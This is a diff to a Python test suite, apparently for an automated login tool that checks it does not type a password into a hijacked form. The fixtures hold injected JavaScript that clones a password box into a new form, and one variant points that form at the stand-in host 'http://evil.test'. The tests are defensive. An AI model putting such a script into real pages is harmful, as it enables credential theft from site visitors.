@@ -102,16 +102,19 @@ def test_a_password_is_not_typed_into_a_form_that_leads_elsewhere(
     assert (pages.passwords, report.password_submissions) == ([], 0)
 
 
+COPIES = """<script>const box = document.querySelector("[type=password]");
+const made = document.createElement("form");
+const seen = new MutationObserver(() => {
+  seen.disconnect();
+  made.append(box.cloneNode());
+  document.body.prepend(made);
+});
+seen.observe(box, {attributeFilter: ["MARK"]});</script>"""
+
+
 def test_a_password_is_not_typed_into_a_copy_of_its_box(pages: Pages, visitor: Visitor) -> None:
     """A script copies the box, with whatever we have put on it, into a form of its own."""
-    copy = """<script>const box = document.querySelector("[type=password]");
-    const made = document.createElement("form");
-    const seen = new MutationObserver(() => {
-      seen.disconnect();
-      made.append(box.cloneNode());
-      document.body.prepend(made);
-    });
-    seen.observe(box, {attributes: true});</script>"""
+    copy = COPIES.replace("MARK", "data-redrive-box")
     for form, code in (
         (copy, Code.NAVIGATION),
         (copy.replace('"form");', '"form"); made.action = "http://evil.test";'), Code.OTHER_SITE),
@@ -121,6 +124,15 @@ def test_a_password_is_not_typed_into_a_copy_of_its_box(pages: Pages, visitor: V
         assert report.code is code, report.error
         assert "Nothing was typed." in report.error
         assert (pages.passwords, report.password_submissions) == ([], 0)
+
+
+def test_a_box_copied_at_the_first_look_is_one_of_several(pages: Pages, visitor: Visitor) -> None:
+    copy = COPIES.replace("MARK", "data-redrive-form")
+    pages.portal(NO_BILLS, LOGIN_PAGE + copy.replace('"form");', '"form"); made.action = "/x";'))
+    report = visitor.visit()
+    assert report.code is None, report.error
+    assert (pages.passwords, report.password_submissions) == ([CANARY], 1)
+    assert "POST /site/login" in pages.asked
 
 
 def test_another_form_that_leads_nowhere_is_in_nobodys_way(pages: Pages, visitor: Visitor) -> None:
